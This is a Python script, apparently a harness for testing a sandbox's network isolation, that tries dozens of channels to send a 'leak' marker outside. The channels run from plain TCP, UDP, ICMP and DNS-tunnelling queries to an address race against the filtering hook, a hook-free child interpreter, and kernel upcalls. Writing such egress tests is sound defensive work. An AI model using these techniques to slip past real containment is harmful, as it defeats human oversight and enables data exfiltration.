"""Tries every way to send something outside that is known here, each with a mark of its own.

usage: python channels.py SERVICES; that is the folder of the sockets and the FIFO of ``outside.py``. Prints a line for
each: its name, a tab, and how it ended. Ports from 20001 on are marks.
"""

import ctypes
import errno
import os
import re
import resource
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

V4, V6 = "198.51.100.7", "2001:db8::7"
_LIBC = ctypes.CDLL(None, use_errno=True)
_LITE, _SCTP, _DCCP, _MPTCP = 136, 132, 33, 262
_QUESTION = struct.Struct(">6H")
_UNNUMBERED = b"zz"
"""Where a question gets its mark for a number."""
INBOUND = 20_900
"""Where it lets others in: connections, and datagrams at the port after."""
ABSTRACT = "\0sovcheck-outside"
NETLINK_PORT, QUEUE_KEY = 0x7EAD0001, 0x7EAD0002
"""Where programs of the machine listen, by netlink and at a message queue."""
SERVICES = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
CHANNELS = {}


def channel(name):
    """Register a way to send; it is called with its port."""

    def register(attempt):
        CHANNELS[name] = attempt
        return attempt

    return register


def datagram(family, address, *, kind=socket.SOCK_DGRAM, protocol=0, options=(), said=b"leak"):
    """A datagram by sendto."""

    def attempt(port):
        with socket.socket(family, kind, protocol) as sending:
            for option in options:
                sending.setsockopt(*option)
            sending.sendto(said, (address, 0 if kind == socket.SOCK_RAW else port))

    return attempt


def connection(family, address, *, protocol=0, kind=socket.SOCK_STREAM):
    """A connection."""

    def attempt(port):
        with socket.socket(family, kind, protocol) as stream:
            stream.settimeout(2)
            stream.connect((address, port))

    return attempt


def raw_address(family, port):
    """An IPv4 address with any family in it."""
    return struct.pack("=H", family) + struct.pack("!H", port) + socket.inet_aton(V4) + bytes(8)


def checked(result):
    """OSError for a call that failed."""
    if result < 0:
        raise OSError(ctypes.get_errno(), "")


for label, family, address in (("4", socket.AF_INET, V4), ("6", socket.AF_INET6, V6)):
    CHANNELS[f"tcp{label}"] = connection(family, address)
    CHANNELS[f"udp{label}"] = datagram(family, address)
    CHANNELS[f"udp-lite{label}"] = datagram(family, address, protocol=_LITE)
    CHANNELS[f"mptcp{label}"] = connection(family, address, protocol=_MPTCP)
    CHANNELS[f"sctp{label}"] = connection(family, address, protocol=_SCTP)
    CHANNELS[f"sctp-many{label}"] = datagram(family, address, kind=socket.SOCK_SEQPACKET)
    CHANNELS[f"dccp{label}"] = connection(family, address, protocol=_DCCP, kind=6)
CHANNELS["mapped-tcp"] = connection(socket.AF_INET6, f"::ffff:{V4}")
CHANNELS["mapped-udp"] = datagram(socket.AF_INET6, f"::ffff:{V4}")
CHANNELS["multicast4"] = datagram(socket.AF_INET, "239.1.2.3")
CHANNELS["multicast6"] = datagram(socket.AF_INET6, "ff0e::7")
_BROADCAST = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
CHANNELS["broadcast"] = datagram(socket.AF_INET, "255.255.255.255", options=[_BROADCAST])
CHANNELS["link-local4"] = connection(socket.AF_INET, "169.254.169.254")
CHANNELS["source-routed"] = datagram(
    socket.AF_INET, "203.0.113.1", options=[(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(V4) + b"\0")]
)


@channel("link-local6")
def link_local(port):
    """A link-local address with a scope."""
    with socket.socket(socket.AF_INET6) as stream:
        stream.settimeout(2)
        stream.connect(("fe80::7", port, 0, 1))


@channel("connected-udp")
def connected(port):
    """Connect, then send without an address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.connect((V4, port))
        sending.send(b"leak")


@channel("reconnected-udp")
def reconnected(port):
    """Connect to loopback, and name another address with the message."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.connect(("127.0.0.1", 9))
        sending.sendmsg([b"leak"], [], 0, (V4, port))


@channel("fast-open")
def fast_open(port):
    """Data in the first packet of a connection."""
    with socket.socket() as stream:
        stream.sendto(b"leak", 0x20000000, (V4, port))


def message_of(address):
    """What sendmsg takes; and what has to live as long."""
    name, part = ctypes.create_string_buffer(address, 16), ctypes.create_string_buffer(b"leak")
    vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(part), 4))
    packed = struct.pack("=QIxxxxQQQQixxxx", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    return packed, (name, part, vector)


@channel("sendmmsg")
def many(port):
    """The second of two messages is the one that counts."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        first, kept = message_of(struct.pack("=H", 2) + struct.pack("!H", 9) + socket.inet_aton("127.0.0.1") + bytes(8))
        second, also = message_of(raw_address(2, port))
        both = ctypes.create_string_buffer(first + bytes(8) + second + bytes(8))
        checked(_LIBC.sendmmsg(sending.fileno(), both, 2, 0))
        del kept, also


@channel("unspecified-sendto")
def unspecified(port):
    """An address without a family."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        checked(_LIBC.sendto(sending.fileno(), b"leak", 4, 0, raw_address(0, port), 16))


@channel("unspecified-sendmsg")
def unspecified_message(port):
    """The same by sendmsg."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        message, kept = message_of(raw_address(0, port))
        checked(_LIBC.sendmsg(sending.fileno(), message, 0))
        del kept


@channel("isolated-child")
def child(port):
    """A Python without the environment, and so without the hook."""
    program = f"import socket; socket.create_connection(({V4!r}, {port}), 2)"
    if subprocess.run([sys.executable, "-I", "-c", program], env={}, stderr=subprocess.DEVNULL, check=False).returncode:
        raise OSError(errno.ECONNREFUSED, "")


@channel("source-port-53")
def from_name_port(port):
    """A datagram that looks like an answer of a name server."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
        sending.bind(("", 53))
        sending.sendto(b"leak", (V4, port))


for label, family, address, protocol, request in (
    ("", socket.AF_INET, V4, socket.IPPROTO_ICMP, 8),
    ("6", socket.AF_INET6, V6, socket.IPPROTO_ICMPV6, 128),
):
    # An echo request with a message, by a socket that needs no right; and a packet by hand.
    CHANNELS[f"ping{label}"] = datagram(family, address, protocol=protocol, said=bytes([request, *bytes(7)]) + b"leak")
    CHANNELS[f"raw{label}"] = datagram(family, address, kind=socket.SOCK_RAW, protocol=253)


def joining(family, level, option, value):
    """To join a group tells the network its address."""

    def attempt(_port):
        with socket.socket(family, socket.SOCK_DGRAM) as joins:
            joins.setsockopt(level, option, value)

    return attempt


_GROUP, _GROUP6 = socket.inet_aton("239.9.9.9"), socket.inet_pton(socket.AF_INET6, "ff0e::9")
_ANY_CARD = struct.pack("=I4x", 1)
_GROUP_ADDRESS = struct.pack("=HH", 2, 0) + _GROUP + bytes(120)
_SOURCE = struct.pack("=HH", 2, 0) + socket.inet_aton(V4) + bytes(120)
for label, family, level, option, value in (
    ("", socket.AF_INET, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, _GROUP + bytes(4)),
    ("-of-source", socket.AF_INET, socket.IPPROTO_IP, 46, _ANY_CARD + _GROUP_ADDRESS + _SOURCE),
    ("6", socket.AF_INET6, socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, _GROUP6 + struct.pack("=I", 1)),
):
    CHANNELS[f"group{label}"] = joining(family, level, option, value)


for name, number, kind in (
    ("vsock", 40, socket.SOCK_STREAM),
    ("packet", 17, socket.SOCK_RAW),
    ("alg", 38, socket.SOCK_SEQPACKET),
    ("key", 15, socket.SOCK_RAW),
    ("xdp", 44, socket.SOCK_RAW),
    ("tipc", 30, socket.SOCK_RDM),
    ("can", 29, socket.SOCK_RAW),
    ("rds", 21, socket.SOCK_SEQPACKET),
    ("bluetooth", 31, socket.SOCK_RAW),
    ("qrtr", 42, socket.SOCK_DGRAM),
):
    CHANNELS[f"family-{name}"] = lambda _port, number=number, kind=kind: socket.socket(number, kind).close()


def labels(name):
    """A name as a packet has it."""
    return b"".join(bytes([len(each)]) + each.encode() for each in name.split(".")) + b"\0"


def name_server():
    """The one that programs ask here."""
    conf = Path("/etc/resolv.conf")
    found = re.findall(r"^nameserver\s+(\S+)", conf.read_text(), re.MULTILINE) if conf.exists() else []
    return [*found, V4][0]


def question(content, server=None):
    """A datagram to a name server."""

    def attempt(port):
        address = server or name_server()
        with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as asking:
            payload = content(f"mark-{port}")
            numbered = payload.replace(_UNNUMBERED, struct.pack(">H", port), 1)
            asking.sendto(numbered if payload.startswith(_UNNUMBERED) else payload, (address, 53))

    return attempt


def plain(name, kind=1, count=1, flags=0x0100, added=b""):
    """A question."""
    return _QUESTION.pack(0x7A7A, flags, count, 0, 0, 0) + (labels(name) + struct.pack(">2H", kind, 1)) * count + added


CHANNELS["dns-plain"] = question(lambda mark: plain(f"{mark}.invalid"))
CHANNELS["dns-text"] = question(lambda mark: plain(f"{mark}.invalid", kind=16))
CHANNELS["dns-elsewhere"] = question(lambda mark: plain(f"{mark}.invalid"), V4)
CHANNELS["dns-elsewhere6"] = question(lambda mark: plain(f"{mark}.invalid"), V6)
CHANNELS["dns-twice"] = question(lambda mark: plain(f"{mark}.invalid", count=2))
CHANNELS["dns-operation"] = question(lambda mark: plain(f"{mark}.invalid", flags=0x2900))
CHANNELS["dns-compressed"] = question(lambda _: plain("a")[:-5] + b"\xc0\x0c\0\1\0\1")
CHANNELS["dns-anything"] = question(lambda mark: mark.encode())
CHANNELS["dns-localhost"] = question(lambda mark: plain(f"{mark}.localhost"))
CHANNELS["dns-reverse"] = question(lambda _: plain("7.7.7.127.in-addr.arpa", kind=12))
CHANNELS["dns-added"] = question(lambda mark: plain("localhost", added=mark.encode()))


@channel("dns-resolver")
def resolve(port):
    """As any program asks."""
    socket.getaddrinfo(f"mark-{port}.invalid", 443)


@channel("dns-tcp")
def by_tcp(_port):
    """The same by a connection."""
    with socket.socket() as stream:
        stream.settimeout(2)
        stream.connect((name_server(), 53))


@channel("race")
def race(port):
    """An address that another thread changes while the call is looked at, over and over for a second."""
    ours = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton("127.0.0.1") + bytes(8)
    shared, over = ctypes.create_string_buffer(ours, 16), threading.Event()
    places = [ctypes.c_char.from_buffer(shared, 4 + place) for place in range(4)]

    def change():
        while not over.is_set():
            for address in (V4, "127.0.0.1"):
                for place, byte in zip(places, socket.inet_aton(address), strict=True):
                    place.value = bytes([byte])

    sys.setswitchinterval(1e-5)
    changing = threading.Thread(target=change)
    changing.start()
    until, sent = time.monotonic() + 1, 0
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
            while time.monotonic() < until:
                time.sleep(0.0005)  # fewer packets than a tap could lose
                sent += _LIBC.sendto(sending.fileno(), b"leak", 4, 0, shared, 16) > 0
    finally:
        over.set()
        changing.join()
    if not sent:
        raise OSError(errno.ENETUNREACH, "")


def service(name, kind=socket.SOCK_STREAM):
    """A message to a service of the machine by the name of its socket."""

    def attempt(_port):
        with socket.socket(socket.AF_UNIX, kind) as asking:
            asking.settimeout(2)
            asking.connect(name() if callable(name) else name)
            asking.send(b"leak")

    return attempt


for name in ("usual", "relative", "renamed", "linked", "elsewhere"):
    CHANNELS[f"unix-{name}"] = service(lambda name=name: str(SERVICES / name))
CHANNELS["unix-datagram"] = service(lambda: str(SERVICES / "datagram"), socket.SOCK_DGRAM)
CHANNELS["unix-abstract"] = service(ABSTRACT)


@channel("netlink")
def netlink(_port):
    """A message to a program of the machine, past the kernel."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2) as sending:
        sending.sendto(b"leak", (NETLINK_PORT, 0))


@channel("message-queue")
def queue(_port):
    """A message to whoever reads from a queue of the machine."""
    number = _LIBC.msgget(QUEUE_KEY, 0)
    checked(number)
    checked(_LIBC.msgsnd(number, struct.pack("=q", 1) + b"leak", ctypes.c_size_t(4), 0o4000))


@channel("fifo")
def fifo(_port):
    """A message to whoever reads from a pipe with a name."""
    os.write(os.open(SERVICES / "fifo", os.O_WRONLY | os.O_NONBLOCK), b"leak")


@channel("inbound-tcp")
def let_in(_port):
    """To wait until somebody outside connects, and reads."""
    with socket.socket() as waiting:
        waiting.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        waiting.bind(("0.0.0.0", INBOUND))
        waiting.listen()
        waiting.settimeout(1)
        waiting.accept()[0].send(b"leak")


@channel("inbound-udp")
def be_asked(_port):
    """To wait until somebody outside asks, and answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as waiting:
        waiting.bind(("0.0.0.0", INBOUND + 1))
        waiting.settimeout(1)
        _, asker = waiting.recvfrom(16)
        waiting.sendto(b"leak", asker)


@channel("inbound-address")
def be_found(_port):
    """To be reached at one address, that of the network."""
    with socket.socket() as waiting:
        waiting.bind((V4, INBOUND + 2))
        waiting.listen()
        waiting.settimeout(1)
        waiting.accept()[0].send(b"leak")


@channel("key-upcall")
def key(_port):
    """The kernel starts a program outside, as root, to find a key: with a name in it."""
    number = 249 if os.uname().machine == "x86_64" else 218
    checked(_LIBC.syscall(ctypes.c_long(number), b"dns_resolver", b"leak.invalid", b"x", ctypes.c_int(-2)))


@channel("core-helper")
def core(_port):
    """On a crash the kernel starts a program outside that takes the memory; not at a limit of 1 (core(5))."""
    limit = resource.getrlimit(resource.RLIMIT_CORE)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, limit[1]))
    except ValueError:
        raise OSError(errno.EPERM, "") from None


if __name__ == "__main__":
    for place, (known, attempt) in enumerate(CHANNELS.items()):
        try:
            attempt(20_001 + place)
            outcome = "done"
        except TimeoutError as error:
            outcome = errno.errorcode.get(error.errno, "nobody came")
        except OSError as error:
            outcome = errno.errorcode.get(error.errno, str(error))
        sys.stdout.write(f"{known}\t{outcome}\n")
